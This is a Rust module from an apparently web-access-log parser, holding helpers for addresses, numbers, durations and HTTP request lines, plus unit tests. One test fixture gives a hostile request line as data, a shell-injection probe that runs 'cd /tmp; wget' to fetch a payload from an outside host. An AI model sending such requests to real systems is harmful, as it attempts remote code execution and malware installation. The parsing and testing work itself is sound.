//! Field-level helpers shared by every access format: addresses, numbers, durations and the
//! HTTP request line.

use std::net::IpAddr;

use super::escape::{LineText, push_lossy};
use crate::model::Request;

/// Parse an address as logged: bare IPv4/IPv6, `ip:port`, `[v6]:port` or `[v6]`; surrounding
/// spaces and quotes are ignored. `None` for host names, `-` and garbage.
pub(crate) fn parse_ip_loose(raw: &[u8]) -> Option<IpAddr> {
    if let Some(v4) = parse_ipv4_fast(raw) {
        return Some(IpAddr::V4(v4));
    }
    let s = trim(raw);
    let s = s.strip_prefix(b"\"").unwrap_or(s);
    let s = s.strip_suffix(b"\"").unwrap_or(s);
    if s.is_empty() || s.len() > 64 {
        return None;
    }
    if let Some(v4) = parse_ipv4_fast(s) {
        return Some(IpAddr::V4(v4));
    }
    let text = std::str::from_utf8(s).ok()?;
    if let Some(rest) = text.strip_prefix('[') {
        let end = rest.find(']')?;
        return rest[..end].parse().ok();
    }
    if let Ok(ip) = text.parse::<IpAddr>() {
        return Some(ip);
    }
    // `a.b.c.d:port` (a single colon: IPv6 without brackets never has exactly one).
    let (host, port) = text.rsplit_once(':')?;
    if host.contains(':') || port.is_empty() || !port.bytes().all(|b| b.is_ascii_digit()) {
        return None;
    }
    host.parse::<std::net::Ipv4Addr>().ok().map(IpAddr::V4)
}

/// Dotted-quad IPv4 without a port, the overwhelmingly common client field. `None` for
/// anything else (including leading zeros, which `std` also rejects), so the general parser
/// still decides those.
pub(crate) fn parse_ipv4_fast(s: &[u8]) -> Option<std::net::Ipv4Addr> {
    let mut octets = [0u8; 4];
    let mut idx = 0;
    let mut val = 0u32;
    let mut digits = 0;
    for &b in s {
        match b {
            b'0'..=b'9' => {
                if digits > 0 && val == 0 {
                    return None;
                }
                val = val * 10 + u32::from(b - b'0');
                digits += 1;
                if digits > 3 || val > 255 {
                    return None;
                }
            }
            b'.' if digits > 0 && idx < 3 => {
                octets[idx] = val as u8;
                idx += 1;
                val = 0;
                digits = 0;
            }
            _ => return None,
        }
    }
    if idx != 3 || digits == 0 {
        return None;
    }
    octets[3] = val as u8;
    Some(octets.into())
}

/// Parse `ip:port` where a port is always present: split on the **last** `:`, so an IPv6
/// client written without brackets (`2001:db8::1:443`) loses its port instead of being read
/// as a different address. `[v6]:port` is accepted too.
pub(crate) fn parse_ip_port(raw: &[u8]) -> Option<IpAddr> {
    let colon = memchr::memrchr(b':', raw)?;
    let (host, port) = (&raw[..colon], &raw[colon + 1..]);
    if port.is_empty() || !port.iter().all(u8::is_ascii_digit) {
        return None;
    }
    let host = host.strip_prefix(b"[").and_then(|h| h.strip_suffix(b"]")).unwrap_or(host);
    std::str::from_utf8(host).ok()?.parse().ok()
}

/// Trim ASCII spaces and tabs on both ends.
pub(crate) fn trim(mut s: &[u8]) -> &[u8] {
    while let [b' ' | b'\t', rest @ ..] = s {
        s = rest;
    }
    while let [rest @ .., b' ' | b'\t'] = s {
        s = rest;
    }
    s
}

/// True when a value reads as an X-Forwarded-For chain: its right-most entry is an address
/// (the hop the nearest proxy appended). The entries left of it are whatever the client
/// sent, junk included (`x, 203.0.113.66`): requiring every entry to be an address let an
/// attacker drop the whole chain with one junk entry and hide behind the proxy.
pub(crate) fn looks_like_xff(raw: &[u8]) -> bool {
    let raw = trim(raw);
    !raw.is_empty()
        && raw
            .rsplit(|&b| b == b',')
            .map(trim)
            .find(|e| !e.is_empty() && *e != b"-")
            .is_some_and(|e| parse_ip_loose(e).is_some())
}

/// Characters a host name, `host:port` or a bare address can contain (also `-`).
pub(crate) fn is_hostish(raw: &[u8]) -> bool {
    !raw.is_empty()
        && raw.iter().all(|&b| {
            b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_' | b':' | b'[' | b']' | b'%')
        })
}

/// A decimal integer (no sign); `None` when empty, not all digits, or overflowing.
pub(crate) fn parse_u64(raw: &[u8]) -> Option<u64> {
    if raw.is_empty() || raw.len() > 19 {
        return None;
    }
    let mut v = 0u64;
    for &b in raw {
        if !b.is_ascii_digit() {
            return None;
        }
        v = v * 10 + u64::from(b - b'0');
    }
    Some(v)
}

/// An HTTP status: up to three digits (`000` → 0, as `CloudFront` writes it).
pub(crate) fn parse_status(raw: &[u8]) -> Option<u16> {
    if raw.is_empty() || raw.len() > 3 {
        return None;
    }
    parse_u64(raw).map(|v| v as u16)
}

/// A non-negative decimal number of `unit`s (e.g. seconds `0.005`) → microseconds.
/// Parsed as integer + fraction so `0.001` is exactly 1000 µs. Negative values (`-1`, ALB's
/// "not applicable") and garbage give `None`.
pub(crate) fn decimal_to_us(raw: &[u8], us_per_unit: u64) -> Option<u64> {
    let (int, frac) = match memchr::memchr(b'.', raw) {
        Some(i) => (&raw[..i], &raw[i + 1..]),
        None => (raw, &b""[..]),
    };
    let int = if int.is_empty() && !frac.is_empty() { 0 } else { parse_u64(int)? };
    if !frac.iter().all(u8::is_ascii_digit) {
        return None;
    }
    // Fraction to units of 1e-9 then scale.
    let mut nanos = 0u64;
    for i in 0..9 {
        nanos = nanos * 10 + frac.get(i).map_or(0, |&c| u64::from(c - b'0'));
    }
    let whole = int.checked_mul(us_per_unit)?;
    whole.checked_add(nanos * us_per_unit / 1_000_000_000)
}

/// True for the method token of a request line (letters, digits, `-`, `_`).
fn is_method(raw: &[u8]) -> bool {
    !raw.is_empty()
        && raw.len() <= 32
        && raw.iter().all(|&b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
}

/// Split a request line into method, target and protocol only when it is exactly
/// `METHOD SP target SP HTTP/x`; anything else (`""`, `HELP`, binary probes) is kept whole in
/// `raw_request`. Escapes are undone after splitting (nginx never escapes a space, so the
/// split positions are the same before and after).
pub(crate) fn split_request_line(
    line: &LineText<'_>,
    raw: &[u8],
    out: &mut Request,
    scratch: &mut Vec<u8>,
) {
    // Exactly two spaces: the method ends at the first (short, scanned plainly), the
    // protocol starts after the last, and the target between them has none.
    let first = raw.iter().take(33).position(|&b| b == b' ');
    let last = memchr::memrchr(b' ', raw);
    if let (Some(first), Some(last)) = (first, last)
        && first + 1 < last
        && memchr::memchr(b' ', &raw[first + 1..last]).is_none()
    {
        let (m, t, p) = (&raw[..first], &raw[first + 1..last], &raw[last + 1..]);
        if is_method(m) && p.len() >= 5 && p[..5].eq_ignore_ascii_case(b"HTTP/") {
            line.push(&mut out.method, m);
            line.push_escaped(&mut out.target, t, scratch);
            line.push(&mut out.protocol, p);
            return;
        }
    }
    line.push_escaped(&mut out.raw_request, raw, scratch);
}

/// ALB/`CloudFront` style: split on the first and last space (the target may contain spaces,
/// e.g. ALB's `SpaceInUri`). A method of `-` means the request was never parsed: raw kept.
pub(crate) fn split_first_last(raw: &[u8], out: &mut Request) -> bool {
    let (Some(first), Some(last)) = (memchr::memchr(b' ', raw), memchr::memrchr(b' ', raw)) else {
        return false;
    };
    if first == last || raw[..first] == *b"-" || !is_method(&raw[..first]) || first + 1 >= last {
        return false;
    }
    push_lossy(&mut out.method, &raw[..first]);
    push_lossy(&mut out.target, &raw[first + 1..last]);
    push_lossy(&mut out.protocol, &raw[last + 1..]);
    true
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn addresses_in_every_shape() {
        let v4: IpAddr = "10.0.0.1".parse().unwrap();
        let v6: IpAddr = "::1".parse().unwrap();
        assert_eq!(parse_ip_loose(b" 10.0.0.1 "), Some(v4));
        assert_eq!(parse_ip_loose(b"10.0.0.1:8080"), Some(v4));
        assert_eq!(parse_ip_loose(b"[::1]:56348"), Some(v6));
        assert_eq!(parse_ip_loose(b"::1"), Some(v6));
        assert_eq!(
            parse_ip_loose(b"2a03:0000:10ff:f00f:0000:0000:0:8000"),
            "2a03:0:10ff:f00f::8000".parse().ok()
        );
        for bad in [&b"-"[..], b"localhost:8080", b"", b"10.0.0.1:x", b"unknown"] {
            assert_eq!(parse_ip_loose(bad), None, "{bad:?}");
        }
        assert_eq!(parse_ip_port(b"2001:db8::1:443"), "2001:db8::1".parse().ok());
        assert_eq!(parse_ip_port(b"[2001:db8::1]:443"), "2001:db8::1".parse().ok());
        assert_eq!(parse_ip_port(b"10.0.0.1:80"), Some(v4));
        assert_eq!(parse_ip_port(b"10.0.0.1"), None);
        for (text, fast) in [
            ("255.255.255.255", true),
            ("0.0.0.0", true),
            ("256.1.1.1", false),
            ("01.1.1.1", false),
            ("1.2.3", false),
            ("1.2.3.4.5", false),
            ("1..2.3", false),
        ] {
            assert_eq!(parse_ipv4_fast(text.as_bytes()).is_some(), fast, "{text}");
            assert_eq!(parse_ip_loose(text.as_bytes()), text.parse().ok(), "{text}");
        }
    }

    #[test]
    fn numbers_and_durations() {
        assert_eq!(parse_status(b"000"), Some(0));
        assert_eq!(parse_status(b"4040"), None);
        assert_eq!(decimal_to_us(b"0.001", 1_000_000), Some(1000));
        assert_eq!(decimal_to_us(b"1.250", 1_000_000), Some(1_250_000));
        assert_eq!(decimal_to_us(b"41", 1000), Some(41_000));
        assert_eq!(decimal_to_us(b"-1", 1_000_000), None);
        assert_eq!(parse_u64(b"99999999999999999999"), None);
        assert_eq!(decimal_to_us(b"9999999999999999999.5", 1_000_000), None);
    }

    #[test]
    fn request_lines() {
        let mut sc = Vec::new();
        let mut r = Request::default();
        let req = b"GET /a?b HTTP/1.1";
        split_request_line(&LineText::new(req), req, &mut r, &mut sc);
        assert_eq!(
            (r.method.as_str(), r.target.as_str(), r.protocol.as_str()),
            ("GET", "/a?b", "HTTP/1.1")
        );
        for raw in [&b""[..], b"HELP", b"GET /a b", br"\x16\x03\x01 x y"] {
            let mut r = Request::default();
            split_request_line(&LineText::new(raw), raw, &mut r, &mut sc);
            assert!(r.method.is_empty(), "{raw:?}");
        }
        let mut r = Request::default();
        assert!(split_first_last(
            b"GET http://h:80/shell?cd+/tmp;wget+ a.tk/jaws HTTP/1.1",
            &mut r
        ));
        assert_eq!(r.target, "http://h:80/shell?cd+/tmp;wget+ a.tk/jaws");
        assert!(!split_first_last(b"- - -", &mut Request::default()));
    }
}
